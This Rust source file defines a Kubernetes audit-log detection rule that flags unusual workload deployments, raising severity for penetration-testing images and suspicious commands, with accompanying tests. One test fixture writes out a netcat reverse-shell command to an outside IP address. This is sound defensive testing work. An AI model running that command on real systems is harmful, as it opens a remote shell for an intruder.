//! Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed: a workload created or changed
//! in a way unusual for the user and the cluster (see `peregrine_rules_sdk::anomaly`):
//! new images, networks, agents or targets. Workloads with a privileged container or a
//! sensitive mount have their own types and are only learned here. Low severity; Medium
//! when an image is a known penetration-testing tool or a container starts with a
//! suspicious command (`peregrine_rules_sdk::risk`).

use peregrine_rules_sdk::anomaly;
use peregrine_rules_sdk::risk::{pentest_image, suspicious_command};
use peregrine_rules_sdk::*;

pub struct WorkloadDeployed;

/// Whether one of the other two workload types judges this workload.
fn judged_elsewhere(workload: &Workload) -> bool {
    workload.privileged_containers().next().is_some()
        || !workload.sensitive_mounts(false).is_empty()
}

impl Rule for WorkloadDeployed {
    fn descriptor() -> Descriptor {
        Descriptor::new(
            "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
            LOW,
            "A workload was deployed in an unusual way.",
            "A workload was created or changed in a way unusual for the user and the cluster; \
             Medium when an image is a known penetration-testing tool or a container starts \
             with a suspicious command such as a reverse shell.",
        )
        .subscribe(AuditSubscription::workload_writes())
    }

    fn evaluate(event: &AuditEvent) -> Option<Finding> {
        let (workload, features) = anomaly::workload_features(event)?;
        let verdict = anomaly::judge(event, features, !judged_elsewhere(workload))?;
        let tools: Vec<String> = workload
            .containers
            .iter()
            .filter_map(|c| pentest_image(&c.image).map(|_| c.image.clone()))
            .collect();
        let commands: Vec<String> = workload
            .containers
            .iter()
            .filter_map(suspicious_command)
            .collect();
        let images: Vec<&str> = workload
            .containers
            .iter()
            .map(|c| c.image.as_str())
            .collect();
        let mut finding = Finding::new(format!(
            "{} deployed {} of cluster {} with {}, which is unusual for this user \
             and cluster ({}).",
            event.username(),
            workload.label(event),
            event.cluster,
            images.join(", "),
            verdict.summary()
        ))
        .with_anomaly(verdict);
        if !tools.is_empty() {
            finding = finding
                .with_severity(MEDIUM)
                .with_info("pentestImages", tools.join(", "));
        }
        if !commands.is_empty() {
            finding = finding
                .with_severity(MEDIUM)
                .with_info("suspiciousCommands", commands.join(" | "))
                .with_parameters(commands.join(" | "));
        }
        Some(finding)
    }

    /// Profiles are kept in memory for the batch and written back once at its end.
    fn evaluate_batch(events: &[AuditEvent]) -> Vec<Finding> {
        anomaly::evaluate_batch::<Self>(events)
    }
}

export_rule!(WorkloadDeployed);

#[cfg(test)]
mod tests {
    use super::*;
    use peregrine_rules_sdk::testing::{Call, habits, json, run_calls};

    fn deployment(user: &str, ip: &str, agent: &str, image: &str, command: &[&str]) -> Call {
        let mut container = json!({"name": "app", "image": image});
        if !command.is_empty() {
            container["command"] = json!(command);
        }
        Call::new("patch", user, ip, agent)
            .on("deployments.apps", Some("web"), Some("frontend"))
            .object(json!({"kind": "Deployment", "apiVersion": "apps/v1",
                "metadata": {"name": "frontend", "namespace": "web"},
                "spec": {"template": {"spec": {"containers": [container]}}}}))
    }

    fn rollout(user: &str, ip: &str, agent: &str) -> Call {
        deployment(
            user,
            ip,
            agent,
            "registry.example.com/web/frontend:2.4.1",
            &[],
        )
    }

    fn miner(user: &str, ip: &str, agent: &str) -> Call {
        deployment(user, ip, agent, "docker.io/someone/tools:latest", &[])
    }

    peregrine_rules_sdk::anomaly_tests!(WorkloadDeployed, routine: rollout, attack: miner);

    fn attacked(image: &str, command: &[&str]) -> Vec<(usize, Finding)> {
        let mut calls = habits(96, rollout);
        calls.push(deployment("alice", "45.83.64.12", "curl/8.5.0", image, command).at(100 * 3600));
        run_calls::<WorkloadDeployed>(&calls)
    }

    #[test]
    fn severity_is_low_but_medium_for_pentest_images_and_reverse_shells() {
        assert_eq!(
            attacked("docker.io/someone/tools:latest", &[])[0]
                .1
                .severity,
            None
        );
        let kali = attacked("kalilinux/kali-rolling:latest", &[]);
        assert_eq!(kali[0].1.severity, Some(MEDIUM));
        let shell = attacked(
            "alpine:3.19",
            &["/bin/sh", "-c", "nc 45.83.64.12 4444 -e /bin/sh"],
        );
        assert_eq!(shell[0].1.severity, Some(MEDIUM));
        assert!(
            shell[0]
                .1
                .parameters
                .as_deref()
                .unwrap()
                .contains("-e /bin/sh")
        );
    }

    #[test]
    fn image_updates_by_the_usual_deployer_are_not_flagged() {
        let mut calls = habits(96, rollout);
        calls.push(
            deployment(
                "alice",
                peregrine_rules_sdk::testing::OFFICE_IP,
                peregrine_rules_sdk::testing::KUBECTL,
                "registry.example.com/web/frontend:2.5.0",
                &[],
            )
            .at(100 * 3600),
        );
        assert_eq!(run_calls::<WorkloadDeployed>(&calls), vec![]);
    }
}
